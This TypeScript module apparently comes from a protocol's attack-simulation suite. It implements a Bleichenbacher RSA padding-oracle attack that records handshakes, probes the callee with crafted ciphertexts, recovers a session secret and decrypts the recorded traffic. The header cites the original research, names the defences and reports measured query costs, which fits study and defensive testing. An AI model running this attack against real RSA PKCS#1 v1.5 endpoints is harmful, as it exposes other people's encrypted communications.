/**
 * padding-oracle: reads the secret of a recorded session without the key it was sent to, by asking its owner some
 * thousand times whether a padding is right.
 *
 * What it does: copies what passes. Later it calls the one who was called, sends ciphertexts of its own, and compares
 * what comes back; where that tells a wrong padding from all else, it finds the recorded secret (bleichenbacher.ts),
 * and with it the keys of every record.
 * Published: D. Bleichenbacher, CRYPTO 1998; Bardou et al., CRYPTO 2012; Böck, Somorovsky, Young, "Return Of
 * Bleichenbacher's Oracle Threat (ROBOT)", USENIX Security 2018, who found it in products 19 years later.
 * What stops it: X25519, under which a wrapped secret travels sealed, so that there is nothing to ask about; and OAEP,
 * of which nobody is told what was wrong. A private key that only friends' ciphertexts reach keeps strangers from asking.
 * Measured over node:crypto, RSA-2048: half of all ciphertexts fall with less than 5,000 questions, one in two hundred takes
 * ten times as many; where an oracle also wants a whole padding, as RFC 8017 describes it, half with some 11,000.
 */

import { hash, sessionKeys } from '../peers/protocol/handshake'
import { KEY_BYTES } from '../peers/protocol/key-agreement'
import { RSA_BYTES } from '../peers/protocol/rsa'
import type { Attack, Mallory } from './attack'
import { type RsaKey, readOne } from './bleichenbacher'
import { deed } from './deeds'
import { ownIdentity } from './entropy'
import { toBytes } from './modular'
import { type Overheard, type OverheardHandshake, overhearing, readAll, whole } from './overheard'
import { scan } from './robot-scan'
import { callByRsaTransport, callBySigma, HUNG_UP, wrappingKeyIn } from './rsa-callers'

/** How many questions may be on their way at once, while nearly all answers are no. */
const AT_ONCE = 8
const TELL_EACH = 250
/** How often she says on her way how much of the message she knows. */
const TOLD_PARTS = 4

/** @returns the attack, with a memory of its own. */
export function newPaddingOracle(): Attack {
  const overheard: Overheard[] = []
  return {
    name: 'padding-oracle',
    about: 'records, then asks the callee which paddings are right until it has the secret of a session',
    prepare: overhearing(overheard),
    launch: (mallory) => launch(mallory, whole(overheard)),
  }
}

export const paddingOracle = newPaddingOracle()

async function launch(mallory: Mallory, sessions: readonly OverheardHandshake[]): Promise<void> {
  const [first] = sessions
  if (!first) throw new Error('she has recorded no whole handshake')
  const { callee } = first.session
  const targets = sessions.filter(({ reply }) => keyIn(reply.payload) !== null)
  const key = targets[0] && keyIn(targets[0].reply.payload)
  const self = mallory.account ?? { name: 'mallory', identity: await ownIdentity() }
  const caller = key ? callByRsaTransport(mallory, callee) : callBySigma(mallory, callee, self)
  mallory.acted(deed('compares-paddings', callee))
  const { strength, no } = await scan(caller)
  if (strength !== 'strong') return mallory.acted(deed(strength === 'none' ? 'no-oracle' : 'weak-oracle'))
  mallory.acted(deed('has-oracle', callee))
  if (!key) return mallory.acted(deed('nothing-to-ask'))

  let questions = 0
  const oracle = async (ciphertext: bigint): Promise<boolean> => {
    questions += 1
    if (questions % TELL_EACH === 0) mallory.progress(questions, null, deed('questions-to', callee))
    const reaction = await caller.react(() => toBytes(ciphertext, RSA_BYTES))
    if (reaction === HUNG_UP) throw new Error(`${callee} does not answer any more`)
    return reaction !== no
  }
  const ciphertexts = targets.map(({ proof }) => proof.payload.subarray(0, RSA_BYTES))
  let told = 0
  const onNarrowed = (known: number, of: number): void => {
    const parts = Math.floor((known * TOLD_PARTS) / of)
    if (parts <= told || parts >= TOLD_PARTS) return
    told = parts
    mallory.progress(questions, null, deed('questions-to', callee))
    mallory.acted(deed('knows-bits', known, of, questions))
  }
  const asked = { key, size: RSA_BYTES, oracle, atOnce: AT_ONCE, onNarrowed }
  const { which, message } = await readOne(asked, ciphertexts)
  mallory.progress(questions, questions, deed('questions-to', callee))
  mallory.acted(deed('has-secret', questions))
  const { session, hello, reply, proof } = targets[which]!
  const secret = message.subarray(-KEY_BYTES)
  readAll(mallory, session, sessionKeys([secret], hash(hello.bytes, reply.bytes, proof.bytes)))
}

/** @returns the wrapping key, where a REPLY shows it in the clear: there PROOF begins with the wrapped secret. */
function keyIn(reply: Buffer): RsaKey | null {
  try {
    return wrappingKeyIn(reply)
  } catch {
    return null
  }
}
